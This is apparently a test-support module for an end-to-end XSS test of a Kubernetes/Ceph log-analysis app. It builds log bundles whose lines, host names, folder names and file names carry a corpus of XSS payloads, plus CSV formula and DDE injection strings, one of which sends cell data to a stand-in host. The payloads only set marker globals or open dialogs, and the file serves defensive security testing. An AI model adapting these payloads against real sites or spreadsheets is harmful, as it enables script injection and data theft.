// Hostile input for the XSS end-to-end test (issue 9, security): a corpus of payloads, and the
// sample's real cascade lines with those payloads appended, its host names and file names
// replaced by payloads. The cascade must still be found, so the payloads reach every view that
// shows a line, a host or a path. Node-only (test support).
//
// Every payload that could run sets the marker global (`window.__xss`, `self.__xss` in a worker) or
// opens a dialog (`alert`), and every payload that could become markup carries the marker attribute
// `data-xss`: the test looks for any of the three. The page's Content-Security-Policy would stop an
// injected inline handler before it ran, so the marker attribute is what catches an injection
// there; the downloaded report and picture are also opened without their policy.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { classify } from '../../parsers/rules.ts';
import { SAMPLE_DIR, type Tree } from './bundles.ts';

/** The global a payload sets when it runs. */
export const MARK = '__xss';
/** The attribute a payload's element carries when it is parsed as markup. */
export const MARK_ATTR = 'data-xss';

/**
 * Payloads appended to log lines (any characters). Classic script and event-handler injection,
 * breakers out of attributes, `<textarea>`, `<title>`, `<style>`, `<pre>`, comments and CDATA,
 * `javascript:` URLs in HTML and Markdown, template and formula injection, unicode bidi and
 * zero-width characters, terminal escapes, and one very long string.
 */
export const LINE_PAYLOADS: readonly string[] = [
  `<script>window.__xss='script'</script>`,
  `<img src=x onerror="window.__xss='img'" data-xss=img>`,
  `<img src=x onerror=alert('img-alert') data-xss=img-alert>`,
  `<svg onload="window.__xss='svg'" data-xss=svg></svg>`,
  `<svg><script>window.__xss='svg-script'</script><g data-xss=svg-g></g></svg>`,
  `"><img src=x onerror="window.__xss='attr-double'" data-xss=attr-double>`,
  `'><img src=x onerror="window.__xss='attr-single'" data-xss=attr-single>`,
  `' onmouseover='window.__xss="mouseover"' data-xss='mouseover`,
  `" onfocus="window.__xss='focus'" autofocus data-xss="focus`,
  `</textarea><img src=x onerror="window.__xss='textarea'" data-xss=textarea>`,
  `</title><img src=x onerror="window.__xss='title'" data-xss=title>`,
  `</style><img src=x onerror="window.__xss='style'" data-xss=style>`,
  `</code></pre><img src=x onerror="window.__xss='pre'" data-xss=pre>`,
  `--><img src=x onerror="window.__xss='comment'" data-xss=comment><!--`,
  `]]><svg onload="window.__xss='cdata'" data-xss=cdata></svg>`,
  `<a href="javascript:window.__xss='href'" data-xss=href>click</a>`,
  `javascript:window.__xss='bare-url'`,
  `[click](javascript:window.__xss='md-link') ![x](javascript:window.__xss='md-img')`,
  `<https://evil.invalid/x> www.evil.invalid user@evil.invalid`,
  `<iframe srcdoc="<script>parent.__xss='srcdoc'</script>" data-xss=iframe></iframe>`,
  `<details open ontoggle="window.__xss='toggle'" data-xss=toggle>`,
  `<object data="javascript:window.__xss='object'" data-xss=object></object>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="window.__xss='mxss'" data-xss=mxss>`,
  `<base href="javascript:/" data-xss=base><form action="javascript:window.__xss='form'" data-xss=form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:window.__xss='meta'" data-xss=meta>`,
  `&lt;img src=x onerror="window.__xss='entity'" data-xss=entity&gt;`,
  `<style>*{background:url("https://evil.invalid/css")}</style><b data-xss=style-tag>x</b>`,
  `{{constructor.constructor('window.__xss="angular"')()}} \${window.__xss='template'}`,
  `=HYPERLINK("https://evil.invalid/?"&A1,"click") +cmd|' /C calc'!A0 @SUM(1+1)`,
  'bidi \u202Egpj.exe\u202C zero\u200Bwidth\uFEFF \u2066isolate\u2069',
  'terminal \u001b[31mred\u001b[0m bell\u0007 backspace\u0008',
  `| table | cell | **bold** _em_ # heading \\\`tick\`\` \`\`\``,
  `${'A'.repeat(6000)}<b data-xss=long>long</b>`,
];

/**
 * Host names taken from the logs' host field: no white space (the field ends at one) and no dot
 * (a host name is cut at its first dot); the app lowercases them.
 */
export const HOSTS = {
  /** Breaks out of an attribute and opens an SVG whose handler sets no global, so it opens a dialog. */
  markup: `"><svg/data-xss=host/onload=alert(1)>`,
  /** A spreadsheet formula: the CSV's host cell starts with it. */
  formula: `=hyperlink("//evil","x")`,
  /** Told only by the name of a sosreport folder (white space allowed, no `/`). */
  sos: `<b data-xss=sos onmouseover=alert(7)>sos`,
} as const;

/** The dropped folder: starts the CSV's source cells with a formula, and is markup in every path. */
export const DROP_DIR = `@SUM(1+1)*cmd|' calc'!A0 <img src=x onerror=alert(2) data-xss=dir>`;
/** The folders of the two nodes under it. */
export const NODE_DIRS = [`'><b data-xss=node1>node1`, `"><i data-xss=node2 onclick=alert(6)>node2`] as const;
/** File names of each node's kernel log, journal and kubelet log (the format comes from the content; no `/` in a name). */
export const FILE_NAMES = {
  dmesg: `dmesg <svg onload=alert(3) data-xss=file>.log`,
  journal: `journal "onmouseover=alert(4) data-xss=file2.log`,
  kubelet: `kubelet <textarea data-xss=file3 autofocus onfocus=alert(5)>.log`,
} as const;

const SAMPLE_HOST = ['k8s-worker-1', 'k8s-worker-2'] as const;

/**
 * The third node as an extracted sosreport holding only its kernel log: its host is told by the
 * folder's name alone, and its clock (roughly, to the minute) by the report's `date` and `uptime`:
 * the sample's `reconnect denied` at 523,725.46 s since boot is 10:21:16.46 UTC, so at 11:05:00 the
 * node was up 526,349 s, `6 days,  2:12`.
 */
export const SOS_DIR = `sosreport-${HOSTS.sos}-2019-11-12-ptrlyva`;

/**
 * What two copies of one line have in common: the message of a kernel line as dmesg (`[  12.3] msg`)
 * and the journal (`… kernel: msg`) print it, a kubelet line after its klog header in the klog file
 * and the journal alike.
 */
function messageOf(line: string): { msg: string; origin: 'kernel' | 'kubelet' } {
  const kernel = /^\[[\s\d.]+\] (.*)$/.exec(line)?.[1] ?? / kernel: (.*)$/.exec(line)?.[1];
  if (kernel !== undefined) return { msg: kernel, origin: 'kernel' };
  const msg = line
    .replace(/^.*? kubelet\[\d+\]: /, '')
    .replace(/^[IWEF]\d{4} [\d:.]+ +\d+ [\w.-]+:\d+\] /, '');
  return { msg, origin: 'kubelet' };
}

/**
 * Whether a payload after `msg` leaves its classification as it was. Some rules end at the line's
 * end (`ceph: mds0 reconnect denied`); those lines keep their text, and their stages still show
 * the hostile host and file names.
 */
function keepsRule(msg: string, origin: 'kernel' | 'kubelet', payload: string): boolean {
  return classify(msg, origin)?.rule.id === classify(`${msg} ${payload}`, origin)?.rule.id;
}

/**
 * The sample's files of `sampleHost` with `host` in place of its name and a payload appended to each
 * line that names Ceph. A kernel message gets the same payload in the dmesg and the journal, so
 * the two copies still pair (clock fit and deduplication go by text); payloads are handed out in
 * order of first appearance across both nodes, so each appears in the cascade somewhere.
 */
function hostileNode(
  sampleHost: string,
  host: string,
  given: Map<string, string>,
): Record<keyof typeof FILE_NAMES, string> {
  const payloadOf = (key: string) => {
    let p = given.get(key);
    if (p === undefined) {
      p = LINE_PAYLOADS[given.size % LINE_PAYLOADS.length] as string;
      given.set(key, p);
    }
    return p;
  };
  const read = (name: string) => readFileSync(join(SAMPLE_DIR, sampleHost, name), 'utf8');
  const rewrite = (text: string) =>
    text
      .split('\n')
      .map((line) => {
        if (!/ceph/i.test(line)) return line;
        const { msg, origin } = messageOf(line);
        const payload = payloadOf(msg);
        return keepsRule(msg, origin, payload) ? `${line} ${payload}` : line;
      })
      .join('\n')
      .replaceAll(sampleHost, host);
  return {
    dmesg: rewrite(read('dmesg.log')),
    journal: rewrite(read('journal.log')),
    kubelet: rewrite(read('kubelet.log')),
  };
}

/**
 * The hostile bundle as `DROP_DIR/<node>/<file>` paths: two nodes of the sample named by the
 * `markup` and `formula` hosts, and (unless `sosreport` is false) the third as a sosreport named by
 * the `sos` host; every file and folder name a payload, the cascade lines carrying the rest.
 */
export function hostileTree({ sosreport = true } = {}): Tree {
  const given = new Map<string, string>();
  const tree: Tree = new Map();
  const hosts = [HOSTS.markup, HOSTS.formula];
  SAMPLE_HOST.forEach((sampleHost, i) => {
    const files = hostileNode(sampleHost, hosts[i] as string, given);
    for (const kind of Object.keys(FILE_NAMES) as (keyof typeof FILE_NAMES)[]) {
      tree.set(`${DROP_DIR}/${NODE_DIRS[i]}/${FILE_NAMES[kind]}`, new TextEncoder().encode(files[kind]));
    }
  });
  if (!sosreport) return tree;
  const sos = (path: string, text: string) =>
    tree.set(`${DROP_DIR}/${SOS_DIR}/${path}`, new TextEncoder().encode(text));
  sos('version.txt', 'sosreport: 4.3\n');
  sos('sos_commands/kernel/dmesg', hostileNode('k8s-worker-3', HOSTS.sos, given).dmesg);
  sos('sos_commands/date/date', 'Tue Nov 12 11:05:00 UTC 2019\n');
  sos('sos_commands/host/uptime', ' 11:05:00 up 6 days,  2:12,  1 user,  load average: 0.00, 0.01, 0.05\n');
  return tree;
}
